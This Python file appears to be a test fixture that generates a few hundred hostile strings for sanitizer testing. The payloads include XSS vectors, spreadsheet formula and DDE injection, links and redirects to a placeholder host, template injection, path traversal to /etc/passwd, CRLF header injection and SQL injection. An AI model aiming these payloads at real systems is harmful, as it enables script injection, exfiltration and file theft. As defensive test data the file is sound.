"""Some three hundred texts of which none may do anything: each sets ``window.owned`` or calls another host where it is obeyed."""

OTHER = "http://192.0.2.1"
DO = "window.owned=1"

_TAGS = (
    "img audio video svg iframe object embed details body input button marquee form math style link base meta".split()
)
_EVENTS = (
    "onerror onload onclick onfocus onmouseover ontoggle onanimationstart onpointerenter onpageshow onwheel".split()
)
_QUOTES = ("'", '"', "`", "")
_FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("{OTHER}","x")',
    "\t=1",
    "\r=1",
    "＝1+1",
)
_LINKS = (
    "javascript:" + DO,
    "JaVaScRiPt:" + DO,
    "java\tscript:" + DO,
    "data:text/html,<script>" + DO + "</script>",
    OTHER,
)
_HIDDEN = "\u202e\u202d\u202a\u2066\u2067\u2069\u200b\u200c\u200e\u200f\ufeff\u2060\x00\x07\x1b\x7f"

_WHOLE = (
    f"<script>{DO}</script>",
    f"<script src={OTHER}/x.js></script>",
    f"</script><script>{DO}</script>",
    f"<ScRiPt>{DO}</sCrIpT>",
    f"<svg><script>{DO}</script></svg>",
    f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    f"<noscript><p title='</noscript><img src=x onerror={DO}>'>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={DO}>",
    f"--><img src=x onerror={DO}><!--",
    f"]]><img src=x onerror={DO}>",
    f"<meta http-equiv=refresh content='0;url={OTHER}'>",
    f"<base href='{OTHER}/'>",
    f"<style>@import '{OTHER}/x.css'; *{{background:url({OTHER}/x.png)}}</style>",
    f"<a href={OTHER}/ ping={OTHER}/p>a</a>",
    f"&lt;img src=x onerror={DO}&gt;",
    f"&#60;img src=x onerror={DO}&#62;",
    f"%3Cimg%20src%3Dx%20onerror%3D{DO}%3E",
    f"\\u003cimg src=x onerror={DO}\\u003e",
    "{{constructor.constructor('" + DO + "')()}}",
    "${" + DO + "}",
    "{% raw %}<%= 7*7 %>#{7*7}",
    "{{7*7}}[[7*7]]${{7*7}}",
    "__proto__",
    "constructor",
    "../../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "con.txt\x00.exe",
    "a\r\nSet-Cookie: x=1\r\n\r\n<b>",
    "'; DROP TABLE plans; --",
    "\u0301" * 300,
    "W" * 3_000,
    "宽" * 3_000,
    "长" * 10_000,
    "a b " * 2_500,
    "\n" * 500 + "x",
    "|" * 200,
    "#" * 100 + " x",
    "> " * 200 + "x",
    "*" * 500,
    "[" * 300 + "]" * 300,
    "👨‍👩‍👧‍👦" * 50,
    "ﷺ" * 100,
    "Z̸̡̛͔͍͚̤̠͙̻̱̖̎͌̈́̓̋͊a̵l̷g̶o̸",
    "\u2028\u2029\x85\x0b\x0c",
)


def hostile_strings() -> list[str]:
    """All of them, each once."""
    tags = [f"<{tag} src=x href={OTHER}/{tag} {event}={DO} autofocus>" for tag in _TAGS for event in _EVENTS]
    quoted = [f"{quote}> <img src=x onerror={DO}> {quote} onmouseover={DO} x={quote}" for quote in _QUOTES]
    quoted += [f"{quote} autofocus onfocus={DO} x={quote}" for quote in _QUOTES]
    marked = [f"![p]({link}/p.png)" for link in _LINKS] + [f"[a]({link})" for link in _LINKS]
    marked += [f"[1]({link})" for link in _LINKS] + [f"[1]: {link}\n\n[x][1] ![x][1]" for link in _LINKS]
    marked += [f"<{link}>" for link in _LINKS] + [f"\\![p]({link})\\[a]({link})" for link in _LINKS]
    marked += [f'<a href="{link}">a</a><img src="{link}">' for link in _LINKS]
    hidden = [f"前{sign}后<img src=x onerror={DO}>" for sign in _HIDDEN]
    formulas = [*_FORMULAS, *(f"{formula}|<b>" for formula in _FORMULAS)]
    encoded = [
        "".join(f"&#{ord(sign)};" for sign in f"<img src=x onerror={DO}>"),
        "".join(f"%{ord(s):02x}" for s in OTHER),
    ]
    return list(dict.fromkeys([*tags, *quoted, *marked, *hidden, *formulas, *encoded, *_WHOLE]))


def surrogates() -> list[str]:
    """Texts that are no Unicode: a page can hold them, a file cannot."""
    return ["\ud800", "前\udfff后", f"\udc00<img src=x onerror={DO}>\ud83d"]
